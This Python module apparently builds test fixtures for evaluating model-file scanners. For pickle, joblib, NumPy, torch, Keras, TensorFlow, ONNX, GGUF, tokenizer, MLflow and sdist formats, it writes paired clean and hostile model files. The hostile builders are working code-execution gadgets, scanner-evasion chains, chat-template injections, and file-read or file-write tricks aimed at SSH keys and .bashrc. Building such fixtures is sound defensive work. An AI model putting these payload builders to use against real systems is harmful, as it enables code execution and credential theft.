"""Formats that can carry code, each with a clean model and with one that carries a payload."""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import types
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import dedent
from typing import Any

#: writes a hostile model: directory, Python to run
Write = Callable[[Path, str], None]


@dataclass(frozen=True)
class Carrier:
    """One format.

    Attributes:
        name: as the table shows it.
        clean: writes a model of this format that does no harm.
        hostile: writes one that runs Python, where the format can carry any.
        loader: what loads and asks it: Python, with ``MODEL`` the directory.
        native: harm that the format does without Python: an action's name -> writes such a model
            for the arena's places.
        tells: the harm that is tried with it, where it can run Python.
        modules: what the loader and this module need to be installed.
    """

    name: str
    clean: Callable[[Path], None]
    loader: str
    hostile: Write | None = None
    native: Mapping[str, Callable[[Path, Mapping[str, Any]], None]] = field(default_factory=dict)
    tells: tuple[str, ...] = ("shell", "read SSH key")
    modules: tuple[str, ...] = ()


class _Calls:
    """Pickles as a call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self._reduced = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self._reduced

    def __call__(self) -> None:
        """Never: a call may be what another call's result is, so pickle asks for a callable."""


def _weights() -> dict[str, Any]:
    import numpy

    return {"coef": numpy.arange(64.0), "intercept": 0.5}


def _with(payload: object) -> dict[str, Any]:
    return {**_weights(), "extra": payload}


_ASK = "\nprint(sorted(model))\n"
_LOAD_PICKLE = "import pickle\nmodel = pickle.load(open(MODEL + '/model.pkl', 'rb'))" + _ASK


# --- pickles


def _pickle(directory: Path, content: object, protocol: int = 4) -> None:
    (directory / "model.pkl").write_bytes(pickle.dumps(content, protocol))


def _clean_pickle(directory: Path) -> None:
    _pickle(directory, _weights())


def _exec_pickle(directory: Path, code: str) -> None:
    _pickle(directory, _with(_Calls(exec, code, {})))


def _text_pickle(directory: Path, code: str) -> None:
    """Protocol 0, by ``eval``, as the first exploits of pickle were."""
    expression = f"exec({code!r}, {{}})"
    _pickle(directory, _with(_Calls(eval, expression)), protocol=0)


def _numpy_pickle(directory: Path, code: str) -> None:
    """A module that every allow-list of scientific libraries has."""
    from numpy.testing._private.utils import runstring

    _pickle(directory, _with(_Calls(runstring, code, {})))


def _timeit_pickle(directory: Path, code: str) -> None:
    import timeit

    _pickle(
        directory,
        _with(_Calls(timeit.timeit, f"exec({code!r}, {{}})", "pass", timeit.default_timer, 1)),
    )


def _chain_pickle(directory: Path, code: str) -> None:
    """No dangerous name at all: a chain of ``operator`` and ``importlib`` finds ``exec``."""
    import importlib
    import operator

    found = _Calls(operator.attrgetter("exec"), _Calls(importlib.import_module, "builtins"))
    _pickle(directory, _with(_Calls(found, code, {})))


def _nested_pickle(directory: Path, code: str) -> None:
    """A pickle within a pickle: a scanner has to look into a string."""
    inner = pickle.dumps(_Calls(exec, code, {}))
    _pickle(directory, _with(_Calls(pickle.loads, inner)))


def _resolved_pickle(directory: Path, code: str) -> None:
    """``pkgutil.resolve_name`` names anything as a string."""
    import pkgutil

    # The call's result is the function; BUILD and REDUCE by hand put arguments to it.
    body = (
        b"\x80\x04"
        + b"cpkgutil\nresolve_name\n"
        + _unicode("builtins:exec")
        + b"\x85R"
        + _unicode(code)
        + b"}\x86R."
    )
    assert pkgutil.resolve_name("builtins:exec") is exec
    (directory / "model.pkl").write_bytes(body)


def _unicode(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _cloudpickle(directory: Path, code: str) -> None:
    """A function by value, harmless until it is asked."""
    import cloudpickle

    scope: dict[str, Any] = {}
    exec(f"def predict(rows):\n    exec({code!r}, {{}})\n    return rows\n", scope)
    model = types.SimpleNamespace(predict=scope["predict"])
    (directory / "model.pkl").write_bytes(cloudpickle.dumps(model))


def _clean_cloudpickle(directory: Path) -> None:
    import cloudpickle

    scope: dict[str, Any] = {}
    exec("def predict(rows):\n    return rows\n", scope)
    model = types.SimpleNamespace(predict=scope["predict"])
    (directory / "model.pkl").write_bytes(cloudpickle.dumps(model))


def _clean_joblib(directory: Path) -> None:
    import joblib

    joblib.dump(_weights(), directory / "model.joblib", compress=3)


def _joblib(directory: Path, code: str) -> None:
    import joblib

    joblib.dump(_with(_Calls(exec, code, {})), directory / "model.joblib", compress=3)


def _clean_npy(directory: Path) -> None:
    import numpy

    numpy.save(directory / "model.npy", numpy.array([{"a": 1}], dtype=object), allow_pickle=True)


def _npy(directory: Path, code: str) -> None:
    import numpy

    content = numpy.array([_Calls(exec, code, {})], dtype=object)
    numpy.save(directory / "model.npy", content, allow_pickle=True)


# --- torch


def _state() -> dict[str, Any]:
    import torch

    return {"weight": torch.zeros(8)}


def _torch(zipped: bool, hostile: bool) -> Any:
    def write(directory: Path, code: str = "") -> None:
        import torch

        content = _state() | ({"extra": _Calls(exec, code, {})} if hostile else {})
        torch.save(content, directory / "model.pt", _use_new_zipfile_serialization=zipped)

    return write


def _torchscript(read: str = "") -> Callable[..., None]:
    def write(directory: Path, places: Mapping[str, Any] | None = None) -> None:
        import torch

        class Reads(torch.nn.Module):
            def __init__(self, path: str, size: int) -> None:
                super().__init__()
                self.path, self.size = path, size

            def forward(self, x: torch.Tensor) -> torch.Tensor:
                return torch.from_file(self.path, False, self.size, dtype=torch.uint8)

        class Adds(torch.nn.Module):
            def forward(self, x: torch.Tensor) -> torch.Tensor:
                return x + 1

        module: torch.nn.Module = Adds()
        if read:
            assert places is not None
            target = Path(places["home"]) / read
            module = Reads(str(target), target.stat().st_size)
        torch.jit.script(module).save(str(directory / "model.pt"))

    return write


# --- Keras and TensorFlow


def _lambda_code(code: str) -> str:
    """A function's code as Keras keeps it: marshalled, in base64."""
    scope: dict[str, Any] = {}
    exec(f"def f(x):\n    exec({code!r}, {{}})\n    return x\n", scope)
    return base64.b64encode(marshal.dumps(scope["f"].__code__)).decode()


def _keras(name: str) -> Any:
    def write(directory: Path, code: str = "") -> None:
        import keras

        layers: list[Any] = [keras.layers.Input((4,))]
        if code:
            # Building the model calls the function, so what is saved is exchanged afterwards.
            layers.append(keras.layers.Lambda(lambda x: x, output_shape=(4,), name="harm"))
        layers.append(keras.layers.Dense(2))
        path = directory / name
        keras.Sequential(layers).save(path)
        if code:
            _put_code(path, _lambda_code(code))

    return write


def _put_code(path: Path, code: str) -> None:
    """Exchange the function of the one Lambda layer in a saved model."""
    if path.suffix == ".keras":
        with zipfile.ZipFile(path) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        config = json.loads(parts["config.json"])
        _exchange(config, code)
        parts["config.json"] = json.dumps(config).encode()
        with zipfile.ZipFile(path, "w") as archive:
            for name, data in parts.items():
                archive.writestr(name, data)
        return
    import h5py

    with h5py.File(path, "r+") as file:
        config = json.loads(file.attrs["model_config"])
        _exchange(config, code)
        file.attrs["model_config"] = json.dumps(config)


def _exchange(config: Any, code: str) -> None:
    if isinstance(config, dict):
        if config.get("class_name") == "__lambda__":
            config["config"]["code"] = code
            config["config"]["defaults"] = None
        for value in config.values():
            _exchange(value, code)
    elif isinstance(config, list):
        for value in config:
            _exchange(value, code)


def _saved_model(harm: str = "") -> Callable[..., None]:
    def write(directory: Path, places: Mapping[str, Any] | None = None) -> None:
        import tensorflow as tf

        home = places["home"] if places else ""

        class Model(tf.Module):  # type: ignore[misc]
            @tf.function(input_signature=[tf.TensorSpec([None], tf.float32)])  # type: ignore[untyped-decorator]
            def __call__(self, x: Any) -> Any:
                if harm == "read":
                    return tf.io.read_file(home + "/.ssh/id_rsa")
                if harm == "write":
                    tf.io.write_file(home + "/.bashrc", "echo I am back\n")
                return tf.strings.as_string(x)

        tf.saved_model.save(Model(), str(directory))

    return write


# --- ONNX


def _onnx_model(location: str = "", length: int = 0) -> bytes:
    from onnx import TensorProto, helper

    node = helper.make_node("Identity", ["w"], ["y"])
    size = length or 4
    weights = helper.make_tensor("w", TensorProto.UINT8, [size], bytes(size), raw=True)
    if location:
        weights.ClearField("raw_data")
        weights.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", str(length))):
            weights.external_data.add(key=key, value=value)
    inputs = [helper.make_tensor_value_info("x", TensorProto.UINT8, [size])]
    outputs = [helper.make_tensor_value_info("y", TensorProto.UINT8, [size])]
    graph = helper.make_graph([node], "g", inputs, outputs, [weights])
    opsets = [helper.make_opsetid("", 17)]
    data: bytes = helper.make_model(graph, opset_imports=opsets, ir_version=9).SerializeToString()
    return data


def _clean_onnx(directory: Path) -> None:
    (directory / "model.onnx").write_bytes(_onnx_model())


def _external_onnx(directory: Path, places: Mapping[str, Any]) -> None:
    """Weights that lie in somebody's home, by a path out of the model's directory."""
    target = Path(places["home"]) / ".ssh/id_rsa"
    location = os.path.relpath(target, directory)
    (directory / "model.onnx").write_bytes(_onnx_model(location, target.stat().st_size))


def _custom_op_onnx(directory: Path, code: str) -> None:
    """A library beside the model that has the operators, and runs when it is loaded."""
    (directory / "model.onnx").write_bytes(_onnx_model())
    source = directory / "ops.c"
    # The interpreter is in the process already; a library that is loaded can use it.
    source.write_text(
        "extern int PyRun_SimpleString(const char *) __attribute__((weak));\n"
        f"static const char code[] = {json.dumps(code)};\n"
        "__attribute__((constructor)) static void harm(void) { PyRun_SimpleString(code); }\n"
        "void *RegisterCustomOps(void *o, void *a) { (void)o; (void)a; return 0; }\n"
    )
    subprocess.run(
        [os.environ.get("CC", "cc"), "-shared", "-fPIC", "-o", directory / "ops.so", source],
        check=True,
    )
    source.unlink()


# --- templates


def _gguf(template: str) -> bytes:
    """The header of a GGUF file (version 3) with one key and no tensor."""

    def text(value: str) -> bytes:
        raw = value.encode()
        return struct.pack("<Q", len(raw)) + raw

    pairs = {"general.architecture": "llama", "tokenizer.chat_template": template}
    body = b"".join(text(key) + struct.pack("<I", 8) + text(value) for key, value in pairs.items())
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs)) + body


_TEMPLATE = "{% for m in messages %}{{ m.content }}{% endfor %}"


def _injection(code: str) -> str:
    return (
        _TEMPLATE + "{{ cycler.__init__.__globals__.__builtins__.exec(" + json.dumps(code) + ") }}"
    )


def _write_gguf(directory: Path, code: str = "") -> None:
    template = _injection(code) if code else _TEMPLATE
    (directory / "model.gguf").write_bytes(_gguf(template))


def _write_tokenizer(directory: Path, code: str = "") -> None:
    template = _injection(code) if code else _TEMPLATE
    config = {"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": template}
    (directory / "tokenizer_config.json").write_text(json.dumps(config))


# --- MLflow


def _write_pyfunc(directory: Path, code: str = "") -> None:
    (directory / "code").mkdir()
    (directory / "code" / "my_loader.py").write_text(
        f"{code}\n"
        "class Model:\n    def predict(self, rows):\n        return rows\n"
        "def _load_pyfunc(path):\n    return Model()\n"
    )
    (directory / "data").mkdir()
    (directory / "data" / "weights.json").write_text("[1, 2, 3]")
    _mlmodel(directory, {"loader_module": "my_loader", "code": "code", "data": "data"})


def _write_from_code(directory: Path, code: str = "") -> None:
    (directory / "model.py").write_text(
        "import mlflow\n"
        "class Model(mlflow.pyfunc.PythonModel):\n"
        "    def predict(self, context, model_input, params=None):\n"
        + "".join(f"        {line}\n" for line in code.splitlines())
        + "        return model_input\n"
        "mlflow.models.set_model(Model())\n"
    )
    _mlmodel(
        directory,
        {"loader_module": "mlflow.pyfunc.model", "model_code_path": "model.py",
         "python_model": None},
    )  # fmt: skip


def _mlmodel(directory: Path, flavour: Mapping[str, Any]) -> None:
    import yaml

    version = ".".join(map(str, sys.version_info[:3]))
    content = {
        "flavors": {"python_function": {**flavour, "env": {"virtualenv": "python_env.yaml"},
                                        "python_version": version}},
        "model_uuid": "0" * 32, "utc_time_created": "2026-01-01 00:00:00.000000",
    }  # fmt: skip
    (directory / "MLmodel").write_text(yaml.safe_dump(content))
    (directory / "python_env.yaml").write_text(f"python: {version}\n")
    (directory / "requirements.txt").write_text("")


# --- requirements


def _write_sdist(directory: Path, code: str = "") -> None:
    (directory / "model.json").write_text("[1, 2, 3]")
    (directory / "requirements.txt").write_text("./helper-1.0.tar.gz\n")
    setup = f"{code}\nfrom setuptools import setup\nsetup(name='helper', version='1.0')\n"
    info = "Metadata-Version: 2.1\nName: helper\nVersion: 1.0\n"
    with tarfile.open(directory / "helper-1.0.tar.gz", "w:gz") as archive:
        for name, text in (("setup.py", setup), ("PKG-INFO", info)):
            entry = tarfile.TarInfo(f"helper-1.0/{name}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))


def _python(source: str) -> str:
    return dedent(source)


_TORCH = _python("""
    import torch
    model = torch.load(MODEL + "/model.pt", weights_only=False)
    print(sorted(model))
""")
_KERAS = _python("""
    import keras, numpy
    model = keras.models.load_model(MODEL + "/{name}", safe_mode=False)
    print(model.predict(numpy.zeros((1, 4)), verbose=0))
""")
_JINJA = _python("""
    import jinja2
    print(jinja2.Environment().from_string(template).render(messages=[{"content": "hi"}]))
""")
_MLFLOW = _python("""
    import mlflow
    print(mlflow.pyfunc.load_model(MODEL).predict([1]))
""")

CARRIERS = {
    carrier.name: carrier
    for carrier in (
        Carrier("pickle, exec", _clean_pickle, _LOAD_PICKLE, _exec_pickle, modules=("numpy",)),
        Carrier("pickle, protocol 0, eval", _clean_pickle, _LOAD_PICKLE, _text_pickle,
                modules=("numpy",)),
        Carrier("pickle, numpy's own exec", _clean_pickle, _LOAD_PICKLE, _numpy_pickle,
                modules=("numpy",)),
        Carrier("pickle, timeit", _clean_pickle, _LOAD_PICKLE, _timeit_pickle,
                modules=("numpy",)),
        Carrier("pickle, chain of operator", _clean_pickle, _LOAD_PICKLE, _chain_pickle,
                modules=("numpy",)),
        Carrier("pickle within a pickle", _clean_pickle, _LOAD_PICKLE, _nested_pickle,
                modules=("numpy",)),
        Carrier("pickle, resolve_name", _clean_pickle,
                "import pickle\nprint(pickle.load(open(MODEL + '/model.pkl', 'rb')))\n",
                _resolved_pickle, modules=("numpy",)),
        Carrier("cloudpickle, when asked", _clean_cloudpickle,
                "import pickle\nmodel = pickle.load(open(MODEL + '/model.pkl', 'rb'))\n"
                "print(model.predict([1]))\n",
                _cloudpickle, tells=("shell", "exfiltrate by DNS"), modules=("cloudpickle",)),
        Carrier("joblib, compressed", _clean_joblib,
                "import joblib\nmodel = joblib.load(MODEL + '/model.joblib')" + _ASK, _joblib,
                tells=("tamper with the model", "reverse shell"), modules=("joblib", "numpy")),
        Carrier("NumPy array of objects", _clean_npy,
                "import numpy\nprint(numpy.load(MODEL + '/model.npy', allow_pickle=True))\n", _npy,
                modules=("numpy",)),
        Carrier("torch, zip", _torch(True, False), _TORCH, _torch(True, True),
                tells=("shell", "exfiltrate by HTTP"), modules=("torch",)),
        Carrier("torch, legacy", _torch(False, False), _TORCH, _torch(False, True),
                tells=("read SSH key",), modules=("torch",)),
        Carrier("TorchScript", _torchscript(),
                "import torch\nmodel = torch.jit.load(MODEL + '/model.pt')\n"
                "print(bytes(model(torch.zeros(1)).to(torch.uint8).tolist()))\n",
                native={"read SSH key": _torchscript(".ssh/id_rsa")}, modules=("torch",)),
        Carrier("Keras Lambda, .keras", _keras("model.keras"),
                _KERAS.replace("{name}", "model.keras"), _keras("model.keras"),
                tells=("shell",), modules=("keras", "tensorflow")),
        Carrier("Keras Lambda, .h5", _keras("model.h5"), _KERAS.replace("{name}", "model.h5"),
                _keras("model.h5"), tells=("read SSH key",),
                modules=("keras", "tensorflow", "h5py")),
        Carrier("SavedModel, file operators", _saved_model(),
                "import tensorflow as tf\nmodel = tf.saved_model.load(MODEL)\n"
                "print(model(tf.constant([1.0])).numpy())\n",
                native={"read SSH key": _saved_model("read"),
                        "write .bashrc": _saved_model("write")},
                modules=("tensorflow",)),
        Carrier("ONNX, external data", _clean_onnx,
                "import onnx, os\nfrom onnx import numpy_helper\n"
                "model = onnx.load(MODEL + '/model.onnx', load_external_data=False)\n"
                "for weights in model.graph.initializer:\n"
                "    said = {e.key: e.value for e in weights.external_data}\n"
                "    if said:\n"
                "        print(open(os.path.join(MODEL, said['location']), 'rb').read())\n",
                native={"read SSH key": _external_onnx}, modules=("onnx",)),
        Carrier("ONNX, custom operators", _clean_onnx,
                "import numpy, onnxruntime as rt\noptions = rt.SessionOptions()\n"
                "import os\n"
                "if os.path.exists(MODEL + '/ops.so'):\n"
                "    options.register_custom_ops_library(MODEL + '/ops.so')\n"
                "session = rt.InferenceSession(MODEL + '/model.onnx', options)\n",
                _custom_op_onnx, tells=("shell", "drop and run a miner"),
                modules=("onnx", "onnxruntime")),
        Carrier("GGUF chat template", _write_gguf,
                "import re\ndata = open(MODEL + '/model.gguf', 'rb').read()\n"
                "at = data.index(b'chat_template') + 17\n"
                "size = int.from_bytes(data[at:at + 8], 'little')\n"
                "template = data[at + 8:at + 8 + size].decode()\n" + _JINJA,
                _write_gguf, tells=("shell", "fetch and run"), modules=("jinja2",)),
        Carrier("tokenizer chat template", _write_tokenizer,
                "import json\n"
                "template = json.load(open(MODEL + '/tokenizer_config.json'))['chat_template']\n"
                + _JINJA,
                _write_tokenizer, modules=("jinja2",)),
        Carrier("pyfunc, code of its own", _write_pyfunc, _MLFLOW, _write_pyfunc,
                tells=("write .bashrc", "exfiltrate by HTTP"), modules=("mlflow",)),
        Carrier("pyfunc, model from code", _write_from_code, _MLFLOW, _write_from_code,
                tells=("shell",), modules=("mlflow",)),
        Carrier("requirements, setup.py", _write_sdist,
                # What pip does with a source package once it has unpacked it.
            "import subprocess, sys, tarfile\n"
            "with tarfile.open(MODEL + '/helper-1.0.tar.gz') as package:\n"
            "    package.extractall(TMP, filter='data')\n"
            "subprocess.run([sys.executable, 'setup.py', '-q', 'egg_info'],\n"
            "               cwd=TMP + '/helper-1.0')\n",
            _write_sdist, tells=("shell", "plant a .pth file"), modules=("setuptools",)),
    )
}  # fmt: skip
